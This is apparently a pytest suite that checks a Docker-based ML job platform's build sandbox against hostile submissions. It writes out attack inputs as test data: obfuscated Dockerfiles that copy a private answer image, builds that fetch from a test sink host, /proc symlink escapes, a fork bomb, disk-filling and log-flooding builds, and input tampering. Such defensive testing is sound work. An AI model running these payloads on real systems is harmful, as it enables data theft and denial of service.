"""Builds and images that attack: cases 8, 10, 17, 30, 33 to 37, 39, 44, 47, 49 and 71 to 73."""

from __future__ import annotations

import subprocess
import tempfile
import time
import uuid
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path
from typing import Any
from uuid import UUID, uuid4

import pytest
from docker import APIClient

from morpheo.models import ArtifactKind, Blame, Cause, Job, JobSpec, JobState
from morpheo.runtime.contract import BuildResult, BuildSpec, Interrupt, Owner, Profile
from morpheo.runtime.docker import DockerRuntime
from morpheo.testing import make_archive
from tests.conftest import missing
from tests.hostile import payload
from tests.hostile.conftest import running
from tests.hostile.rig import LOG_BYTES, MIB, Case, HostileEngine, HostileRig
from tests.support.images import context
from tests.support.networks import Namespace, make_namespace, networks_can_be_made
from tests.support.services import redis_binary, wait_until

pytestmark = pytest.mark.docker

#: What builds of this rig get; one of an honest image takes a second or two.
BUILD_TIMEOUT_S = 25
BUILD_PIDS = 200
IMAGE_BYTES = 64 * MIB
#: The engine's disk: images of bases, and some room.
DISK_BYTES = 1200 * MIB
PIDS = Path("/sys/fs/cgroup/pids/morpheo-builds")
BASE = f"FROM {payload.BASE}\n"
END = 'ENTRYPOINT ["python3", "/program.py"]\n'


@contextmanager
def small_disk() -> Iterator[Path]:
    """Give an ext4 file system of its own, for an engine."""
    with tempfile.TemporaryDirectory(prefix="hostile-disk-") as folder:
        image, mounted = Path(folder, "image"), Path(folder, "mounted")
        mounted.mkdir()
        with image.open("wb") as file:
            file.truncate(DISK_BYTES)
        subprocess.run(["mkfs.ext4", "-q", "-m0", "-N", "60000", str(image)], check=True)
        subprocess.run(["mount", "-o", "loop,nosuid,nodev", str(image), str(mounted)], check=True)
        try:
            yield mounted
        finally:
            subprocess.run(["umount", "--lazy", str(mounted)], check=True)


@contextmanager
def limited_builds() -> Iterator[None]:
    """Give builds a limit of processes, as an operator does."""
    PIDS.mkdir(exist_ok=True)
    limit = PIDS / "pids.max"
    before = limit.read_text()
    limit.write_text(str(BUILD_PIDS))
    try:
        yield
    finally:
        limit.write_text(before)


@pytest.fixture(scope="module")
def builds(engine: APIClient) -> Iterator[HostileRig]:
    """A rig whose engine has a small disk, and whose builds have short limits."""
    if redis_binary() is None or not HostileEngine.can_be_made() or not PIDS.parent.exists():
        missing("Redis, root, dockerd or control groups")
    base_bytes = engine.inspect_image(payload.BASE)["Size"]
    settings = {
        "BUILD_TIMEOUT_S": BUILD_TIMEOUT_S,
        "IMAGE_BYTES": base_bytes + IMAGE_BYTES,
        "DISK_HIGH": MIB,
        "DISK_LOW": MIB,
    }
    with limited_builds(), small_disk() as disk, running(engine={"data-root": str(disk)}, settings=settings) as rig:
        yield rig


@pytest.fixture
def rig(builds: HostileRig) -> Iterator[HostileRig]:
    """The rig as a case finds it. Afterwards P1 to P6 must hold."""
    case = Case(builds)
    yield builds
    case.check()


def algo(rig: HostileRig, dockerfile: str, **files: str | bytes) -> UUID:
    """Upload an algo with a Dockerfile as it is given."""
    archive = make_archive({"Dockerfile": dockerfile, **{name.replace("_", "."): text for name, text in files.items()}})
    return rig.upload(ArtifactKind.ALGO, archive, name="hostile")


def refuse_all(rig: HostileRig, dockerfiles: list[str], cause: Cause = Cause.BAD_ARCHIVE) -> list[str]:
    """Order a job for each Dockerfile; each must be refused. Return why."""
    specs = [rig.learn(algo=algo(rig, text)) for text in dockerfiles]
    return [message(rig.failed(spec, cause)) for spec in specs]


def message(job: Job) -> str:
    assert job.failure is not None
    return job.failure.message


def problem_image(rig: HostileRig) -> tuple[str, str]:
    """Return the tag and the id of the image that knows the answers."""
    (image,) = [
        (tag, image["Id"])
        for image in rig.engine.images()
        for tag in image["RepoTags"] or ()
        if tag.startswith("morpheo/problem:")
    ]
    return image


def running_container(rig: HostileRig, spec: JobSpec, step: str = "train") -> dict[str, Any]:
    """Return what the engine says of a job's container, when it runs."""
    name = f"morpheo-{spec.id}-1-{step}"
    wait_until(lambda: bool(rig.engine.containers(filters={"name": name})), what=name)
    found: dict[str, Any] = rig.engine.inspect_container(name)
    return found


TAMPER = """
for folder in ("train", "test"):
    for name in files(args.V + "/" + folder):
        path = os.path.join(args.V, folder, name)
        attempt(folder + " write", open, path, "w")
        attempt(folder + " truncate", os.truncate, path, 0)
        attempt(folder + " chmod", os.chmod, path, 0o777)
        attempt(folder + " rename", os.rename, path, path + ".x")
        attempt(folder + " unlink", os.unlink, path)
        attempt(folder + " replace", os.replace, args.V + "/model/model_trained.json", path)
"""


def test_08_inputs_are_not_rewritten(rig: HostileRig) -> None:
    spec = rig.learn(train=TAMPER)
    job = rig.succeeded(spec)
    tried = rig.attempts(spec)
    assert len(tried) == 12
    assert {found["error"] for found in tried.values()} <= {"EROFS", "EPERM", "EACCES", "EXDEV"}
    assert job.scores is not None
    assert job.scores.perf == rig.baseline


def test_10_no_image_but_a_base_is_named(rig: HostileRig) -> None:
    tag, image_id = problem_image(rig)
    steals = [
        f"FROM {tag}\n",
        f"FROM {image_id}\n",
        f"FROM {image_id.removeprefix('sha256:')[:12]}\n",
        f"ARG X={tag}\nFROM ${{X}}\n",
        f"fRoM {tag}\n",
        f"FR\\\nOM {tag}\n",
        f"FROM \\\n{tag}\n",
        f"# escape=`\nFROM `\n{tag}\n",
        f"{BASE}COPY --from={tag} / /stolen\n",
        f"{BASE}COPY --from={image_id} / /stolen\n",
        f"{BASE}cOpY --fr\\\nom={tag} / /stolen\n",
        f"{BASE}ARG X={tag}\nCOPY --from=$X / /stolen\n",
        f"{BASE}RUN --mount=type=bind,from={tag},target=/x cp -r /x /stolen\n",
    ]
    for said in refuse_all(rig, steals):
        assert "Dockerfile line" in said


def fetches(rig: HostileRig) -> list[str]:
    """Return Dockerfiles that would reach the sink, in the engine's network."""
    here = f"{rig.sink.addresses[0]}:{rig.sink.port}"
    return [
        f"FROM scratch\nADD http://{here}/{rig.canaries.train} /x\n",
        f"FROM scratch\nADD git://{here}/x.git /x\n",
        f"FROM {here}/{rig.canaries.train[:8]}:1\n",
        f"FROM scratch\nCOPY --from={here}/x:1 / /\n",
        f"# syntax={here}/frontend\nFROM scratch\nCOPY Dockerfile /\n",
        "FROM scratch\nRUN --network=host wget http://x\n",
    ]


def test_17_a_build_reaches_nothing(rig: HostileRig) -> None:
    refuse_all(rig, fetches(rig))
    others = [address for address in rig.sink.addresses if not address.startswith("127.")]
    addresses = [others[0] if others else "10.0.0.1", "127.0.0.1"]
    connect = f"import socket; print([socket.socket().connect_ex((x, {rig.sink.port})) for x in {addresses}])"
    run = (
        'RUN python3 -c "import socket; print([n for _, n in socket.if_nameindex()])"\n'
        f'RUN python3 -c "{connect}"\n'
        "RUN python3 -c \"import socket; socket.getaddrinfo('canary.sink', 80)\"\n"
    )
    spec = rig.learn(algo=algo(rig, BASE + run))
    assert "canary.sink" in message(rig.failed(spec, Cause.BUILD_FAILED))
    assert "\n['lo']\n" in rig.log(spec)
    assert "\n[101, 111]\n" in rig.log(spec)  # no route; nobody there


PROFILE = Profile(
    user=10001, memory_bytes=128 * MIB, cpus=1, pids=64, tmp_bytes=MIB, log_bytes=LOG_BYTES, file_bytes=MIB
)


class NetlessEngine(HostileEngine):
    """An engine without a network, as those of a deployment, and without anybody's images."""

    def __init__(self, folder: Path, world: Namespace) -> None:
        super().__init__(folder)
        self.command = [*world.wrapper, *self.command]


@pytest.fixture(scope="module")
def unchecked() -> Iterator[DockerRuntime]:
    """A runtime, which builds whatever it is given."""
    if not networks_can_be_made():
        missing("root or iproute2")
    with tempfile.TemporaryDirectory(prefix="netless-") as folder, make_namespace(f"m-{uuid.uuid4().hex[:8]}") as world:
        engine = NetlessEngine(Path(folder, "engine"), world)
        engine.start()
        try:
            yield DockerRuntime(engine.url, profile=PROFILE, node="netless", timeout_s=60)
        finally:
            engine.kill()
            engine.remove()


def build_unchecked(runtime: DockerRuntime, dockerfile: str) -> BuildResult:
    spec = BuildSpec(owner=Owner(job_id=uuid4(), attempt=1), tag=f"x:{uuid4().hex}", timeout_s=60)
    return runtime.build(context({"Dockerfile": dockerfile}), spec, interrupt=Interrupt())


def test_10_and_17_the_engine_is_the_wall_without_the_check(rig: HostileRig, unchecked: DockerRuntime) -> None:
    tag, image_id = problem_image(rig)
    steals = [f"FROM {tag}\n", f"FROM {image_id}\n", f"FROM scratch\nCOPY --from={tag} / /stolen\n"]
    for dockerfile in (*steals, *fetches(rig)[:-2]):
        result = build_unchecked(unchecked, dockerfile)
        assert result.image_id is None, dockerfile
    assert build_unchecked(unchecked, fetches(rig)[-2]).image_id is not None  # to this engine a comment


def test_30_a_working_directory_is_no_way_out(rig: HostileRig) -> None:
    refuse_all(rig, [f"{BASE}WORKDIR /proc/self/fd/{number}\n{END}" for number in range(7, 10)])
    refuse_all(rig, [f"{BASE}WORKDIR /sys/fs\n{END}", f"{BASE}ENV X=/proc\nWORKDIR $X/1\n{END}"])
    mark = f"morpheo-{uuid4().hex}"
    hidden = f"RUN ln -s /proc/self/fd /x\nWORKDIR /x/8\nRUN touch ../../../../tmp/{mark}\n"
    rig.wait(rig.learn(algo=algo(rig, BASE + hidden + END, program_py="")))
    assert not Path("/tmp", mark).exists()
    # Where the platform mounts something, the image has links.
    for link in ("/data -> /proc", "/data/model -> /etc", "/tmp -> /proc"):
        path, _, target = link.split()
        made = f"RUN rm -rf {path}; mkdir -p $(dirname {path}); ln -s {target} {path}\n"
        job = rig.wait(rig.learn(algo=algo(rig, BASE + made + END, program_py="")))
        assert job.failure is not None, link
        assert job.failure.cause in (Cause.BAD_IMAGE, Cause.MISSING_OUTPUT, Cause.EXIT_CODE), job.failure


def test_33_a_volume_is_refused(rig: HostileRig) -> None:
    refuse_all(rig, [f"{BASE}VOLUME /x\n{END}", f'{BASE}VOLUME ["/x"]\n{END}', f"{BASE}vol\\\nume /x\n{END}"])


ODD = (
    "HEALTHCHECK --interval=1s CMD touch /tmp/healthy",
    "STOPSIGNAL SIGUSR1",
    "USER 0:0",
    'SHELL ["/nowhere"]',
    "EXPOSE 22",
    "ENV HOME=/root PYTHONDONTWRITEBYTECODE=1",
    "LABEL morpheo.node=other",
    "WORKDIR /root",
)


def test_34_what_an_image_says_of_itself_changes_nothing(rig: HostileRig) -> None:
    refuse_all(rig, [f"{BASE}ONBUILD RUN true\n{END}"])
    look = "attempt('who', lambda: [os.getuid(), os.getgid(), os.getcwd(), os.environ['HOME']]); time.sleep(3)"
    spec = rig.learn(algo=rig.algo_of(*ODD), train=look)
    found = running_container(rig, spec)
    assert "Health" not in found["State"]
    assert (found["Config"]["StopSignal"], found["Config"]["User"]) == ("SIGKILL", "10001:10001")
    assert found["Config"]["Healthcheck"]["Test"] == ["NONE"]
    assert found["Image"] == found["Config"]["Image"]  # started by id (72)
    rig.succeeded(spec)
    assert rig.attempts(spec)["who"]["found"] == [10001, 10001, "/data", "/tmp"]
    rig.wait(rig.learn(algo=algo(rig, f"{BASE}USER 4294967296\nRUN true\n{END}", program_py="")))


def test_35_labels_do_not_give_another_job_away(rig: HostileRig) -> None:
    other = rig.learn(train="time.sleep(6)")
    found = running_container(rig, other)["Config"]["Labels"]
    labels = " ".join(f"{name}={value}" for name, value in found.items() if name.startswith("morpheo."))
    rig.succeeded(rig.learn(algo=rig.algo_of(f"LABEL {labels}")))
    rig.succeeded(other)


def test_36_huge_images(rig: HostileRig) -> None:
    labels = "".join(f"LABEL {' '.join(f'l{line}x{number}=1' for number in range(50))}\n" for line in range(10))
    layers = "COPY Dockerfile /x\n" * 66
    for text in (f"{BASE}{labels}{END}", f"{BASE}EXPOSE 1000-2000\n{END}", f"FROM scratch\n{layers}{END}"):
        rig.failed(rig.learn(algo=algo(rig, text)), Cause.BAD_IMAGE)
    large = f"{BASE}RUN head -c {IMAGE_BYTES + MIB} /dev/zero > /large\n{END}"
    assert "install less" in message(rig.failed(rig.learn(algo=algo(rig, large)), Cause.BAD_IMAGE))
    doubled = f"{BASE}ENV A={'x' * 1000}\n" + "ENV A=$A$A\n" * 30
    refuse_all(rig, [f"{BASE}ENV A={'x' * MIB}\n", doubled])


def test_37_entry_points_that_are_none(rig: HostileRig) -> None:
    rig.failed(rig.learn(algo=algo(rig, "FROM scratch\nCOPY Dockerfile /\n")), Cause.BAD_IMAGE)
    elf = b"\x7fELF\x02\x01\x01" + bytes(9) + b"\x02\x00\xf3\x7e" + bytes(44)  # of no machine that there is
    programs: dict[str, bytes] = {"none": b"", "machine": elf, "self": b"#!/proc/self/exe\n"}
    for name, content in programs.items():
        copied = "COPY --chown=0 program.py /program\nRUN chmod 755 /program\n" if content else ""
        text = f'{BASE}{copied}ENTRYPOINT ["/program"]\n'
        job = rig.failed(rig.learn(algo=algo(rig, text, program_py=content)), Cause.BAD_IMAGE, Cause.EXIT_CODE)
        assert len(message(job)) < 5000, name  # the end of its log is quoted


FORK = """
import os, time
made = 0
try:
    while made < 1000:
        if os.fork() == 0:
            time.sleep(60)
            os._exit(0)
        made += 1
except OSError as exc:
    print("stopped at", made, exc.errno, flush=True)
    os._exit(7)
"""


def test_39_a_fork_bomb_in_a_build(rig: HostileRig) -> None:
    dockerfile = f"{BASE}COPY program.py /\nRUN python3 /program.py\n{END}"
    spec = rig.learn(algo=algo(rig, dockerfile, program_py=FORK))
    rig.failed(spec, Cause.BUILD_FAILED)
    (line,) = [line for line in rig.log(spec).splitlines() if line.startswith("stopped at")]
    assert 0 < int(line.split()[2]) < BUILD_PIDS


def test_44_a_build_that_fills_the_disk(rig: HostileRig) -> None:
    written = f"{BASE}RUN dd if=/dev/zero of=/x bs=1M; true\n{END}"
    files = f"{BASE}RUN python3 -c \"[open('/x%d' % n, 'w').close() for n in range(100000)]\"; true\n{END}"
    for text in (written, files):
        job = rig.wait(rig.learn(algo=algo(rig, text, program_py="")))
        assert job.failure is not None
        assert (job.failure.cause, job.failure.blame) in (
            (Cause.BUILD_FAILED, Blame.SUBMITTER),
            (Cause.BAD_IMAGE, Blame.SUBMITTER),
        ), job.failure
        assert job.attempt == 1
        assert rig.run_benign() == rig.baseline


def test_47_a_build_that_prints_without_end(rig: HostileRig) -> None:
    dockerfile = f"{BASE}RUN head -c {40 * MIB} /dev/zero | tr '\\0' x | fold -w 500; false\n{END}"
    spec = rig.learn(algo=algo(rig, dockerfile))
    rig.failed(spec, Cause.BUILD_FAILED)
    assert len(rig.log(spec)) < 2 * LOG_BYTES + 4096


def test_49_a_build_that_hangs_and_says_so_all_the_time(rig: HostileRig) -> None:
    dockerfile = f"{BASE}RUN while true; do printf .; sleep 0.2; done\n{END}"
    began = time.monotonic()
    spec = rig.learn(algo=algo(rig, dockerfile))
    rig.failed(spec, Cause.TIME_LIMIT)
    assert time.monotonic() - began >= BUILD_TIMEOUT_S
    wait_until(lambda: not rig.engine.containers(), timeout_s=30, what="the end of the build's container")


def test_71_no_build_takes_over_a_layer_of_another(rig: HostileRig) -> None:
    refuse_all(rig, [f"{BASE}RUN --mount=type=cache,target=/x true\n{END}"])
    stamp = "RUN cat /proc/sys/kernel/random/uuid > /stamp"
    look = "attempt('stamp', lambda: open('/stamp').read())"
    first = rig.learn(algo=rig.algo_of(stamp, "HEALTHCHECK NONE"), train=look)
    rig.succeeded(first)
    second = rig.learn(algo=rig.algo_of(stamp), train=look)
    rig.succeeded(second)
    stamps = {rig.attempts(spec)["stamp"]["found"] for spec in (first, second)}
    assert len(stamps) == 2
    assert None not in stamps


def test_72_the_image_of_a_problem_stays_its_own(rig: HostileRig) -> None:
    before = problem_image(rig)
    title = f"LABEL org.opencontainers.image.title={before[0]} RepoTags={before[0]}"
    rig.succeeded(rig.learn(algo=rig.algo_of(title)))
    assert problem_image(rig) == before


LEAVE = """
for folder in ("/tmp", "/dev/shm", "/var/tmp", "/run"):
    attempt(folder, lambda: open(folder + "/left", "w").write("left"))
"""
LOOK = """
for folder in ("/tmp", "/dev/shm", "/var/tmp", "/run"):
    attempt(folder, lambda: "left" in os.listdir(folder))
"""


def test_73_the_next_job_finds_nothing_of_the_one_before(rig: HostileRig) -> None:
    assert rig.wait(rig.learn(train=LEAVE)).state is JobState.SUCCEEDED
    spec = rig.learn(train=LOOK)
    rig.succeeded(spec)
    assert [found["found"] or False for found in rig.attempts(spec).values()] == [False] * 4
